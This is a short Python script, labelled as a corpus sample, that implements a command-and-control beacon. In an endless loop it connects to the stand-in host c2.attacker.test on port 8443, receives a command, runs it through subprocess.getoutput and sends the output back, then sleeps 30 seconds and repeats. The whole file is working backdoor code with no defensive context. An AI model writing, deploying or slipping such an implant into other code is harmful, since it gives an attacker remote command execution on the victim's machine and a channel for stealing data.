# corpus: socket.create_connection beacon loop polling a C2 server for commands
import socket
import subprocess
import time

while True:
    try:
        with socket.create_connection(("c2.attacker.test", 8443), timeout=10) as s:
            cmd = s.recv(4096).decode().strip()
            if cmd:
                s.sendall(subprocess.getoutput(cmd).encode())
    except OSError:
        pass
    time.sleep(30)
